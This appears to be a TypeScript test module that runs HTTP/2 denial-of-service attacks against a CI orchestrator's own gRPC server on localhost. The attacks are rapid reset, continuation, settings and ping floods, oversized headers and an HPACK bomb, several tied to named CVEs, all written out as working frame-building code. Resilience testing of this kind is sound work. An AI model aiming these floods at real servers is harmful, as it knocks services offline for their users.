import { TurboCIOrchestrator } from '../../gen/turboci/v1/service_pb.js';
import { pathOf } from '../support/client.ts';
import { waitFor } from '../support/wait-for.ts';
import {
  callHeaders,
  dataFrame,
  flag,
  frameType,
  headerBlock,
  headersFrame,
  http2Frame,
  resetFrame,
} from './http2-frames.ts';
import { RawPeer } from './raw-peer.ts';
import type { Attack } from './siege.ts';

const PATH = pathOf(TurboCIOrchestrator.method.createWorkPlan);
const CALL = callHeaders(PATH);

/** Frames that a peer sends at a time. */
const BATCH = 500;

export type Resets = { readonly peers: number; readonly streams: number; readonly contentType: string };

/** Calls that are given up as soon as they are made, faster than any client would (CVE-2023-44487). */
export function rapidReset({ peers, streams, contentType }: Resets): Attack {
  const block = headerBlock([
    [':method', 'POST'],
    [':scheme', 'http'],
    [':path', PATH],
    [':authority', 'localhost'],
    ['content-type', contentType],
  ]);
  return flood(peers, streams / BATCH, (at) =>
    Buffer.concat(streamIds(at).flatMap((id) => [headersFrame(id, block), resetFrame(id)])),
  );
}

/** Whole calls whose caller is gone as soon as the first of them is answered: the others find nobody to answer. */
export function goneCallers(peers: number): Attack {
  const whole = (id: number) => [headersFrame(id, CALL), dataFrame(id, Buffer.alloc(5), flag.endStream)];
  return async (port) => {
    for (let at = 0; at < peers; at++) {
      const peer = await RawPeer.greet(port);
      await peer.send(Buffer.concat(streamIds(0).flatMap(whole)));
      await waitFor('an answer', () => streamIds(0).some((id) => peer.isAnswered(id)));
      peer.destroy();
    }
    return `${peers * BATCH} calls`;
  };
}

function streamIds(batch: number): readonly number[] {
  return Array.from({ length: BATCH }, (_, offset) => 1 + 2 * (batch * BATCH + offset));
}

/** Headers that never end (CVE-2024-27316). */
export function continuationFlood(peers: number): Attack {
  const more = http2Frame({
    type: frameType.continuation,
    streamId: 1,
    payload: headerBlock([['x', 'y'.repeat(4000)]]),
  });
  const first = headersFrame(1, CALL, 0);
  return flood(peers, 1000, (at) => (at === 0 ? first : more));
}

/** Settings that all want an acknowledgement, of a peer that reads none. */
export function settingsFlood(peers: number): Attack {
  const frames = Buffer.concat(new Array<Buffer>(BATCH).fill(http2Frame({ type: frameType.settings })));
  return flood(peers, 1000, () => frames, { isReading: false });
}

/** The same with pings (CVE-2019-9512). */
export function pingFlood(peers: number): Attack {
  const frames = Buffer.concat(
    new Array<Buffer>(BATCH).fill(http2Frame({ type: frameType.ping, payload: Buffer.alloc(8) })),
  );
  return flood(peers, 1000, () => frames, { isReading: false });
}

/** Peers that each repeat themselves until the server hangs up on them. */
function flood(peers: number, times: number, bytes: (at: number) => Buffer, { isReading = true } = {}): Attack {
  return async (port) => {
    const repeats = Array.from({ length: peers }, async () => {
      const peer = await RawPeer.greet(port);
      if (!isReading) peer.socket.pause();
      const sent = await peer.repeat(times, bytes);
      peer.socket.resume();
      await peer.hungUp('a flood');
      return sent;
    });
    const sent = await Promise.all(repeats);
    return `${peers} connections hung up after ${Math.min(...sent)} to ${Math.max(...sent)} of ${times} sends`;
  };
}

/** Calls with more metadata than is read: in many fields, in one, and far beyond in both. */
export function hugeHeaders(peers: number): Attack {
  const blocks = [
    Array.from({ length: 2000 }, (_, at) => [`x-${at}`, 'y'] as const),
    [['x', 'y'.repeat(15_000)] as const, ['z', 'y'.repeat(60_000)] as const],
  ].map((fields) => callHeaders(PATH, fields));
  return async (port) => {
    for (let at = 0; at < peers; at++) {
      const peer = await RawPeer.greet(port);
      for (const [index, block] of blocks.entries()) await peer.send(inFrames(1 + 2 * index, block));
      peer.destroy();
    }
    return `${peers * blocks.length} calls`;
  };
}

/** A field of 4,000 bytes that is named once and then meant 60,000 times (CVE-2016-6581). */
export function hpackBomb(peers: number): Attack {
  const value = Buffer.from('y'.repeat(3900));
  const entry = Buffer.concat([Buffer.of(0x40, 1, 0x78, 0x7f, 0xbd, 0x1d), value]);
  const bomb = Buffer.concat([CALL, entry, Buffer.alloc(60_000, 0xbe)]);
  return async (port) => {
    for (let at = 0; at < peers; at++) {
      const peer = await RawPeer.greet(port);
      await peer.send(inFrames(1, bomb));
      peer.destroy();
    }
    return `${peers} calls`;
  };
}

const FRAME_BYTES = 16_384;

/** A header block in as many frames as it needs. */
function inFrames(streamId: number, block: Buffer): Buffer {
  const count = Math.ceil(block.length / FRAME_BYTES);
  return Buffer.concat(
    Array.from({ length: count }, (_, at) =>
      http2Frame({
        type: at === 0 ? frameType.headers : frameType.continuation,
        flags: at === count - 1 ? flag.endHeaders : 0,
        streamId,
        payload: block.subarray(at * FRAME_BYTES, (at + 1) * FRAME_BYTES),
      }),
    ),
  );
}
